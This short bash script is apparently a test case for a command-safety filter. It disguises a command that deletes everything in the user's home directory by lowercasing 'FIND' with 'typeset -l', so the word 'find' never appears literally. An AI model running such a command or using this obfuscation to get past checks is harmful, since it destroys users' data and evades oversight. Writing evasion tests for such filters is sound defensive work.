#!/bin/bash
# Evasion: typeset -l on an assignment makes FIND the find that deletes the home
set -u
typeset -l walker=FIND
"$walker" "$HOME" -mindepth 1 -delete
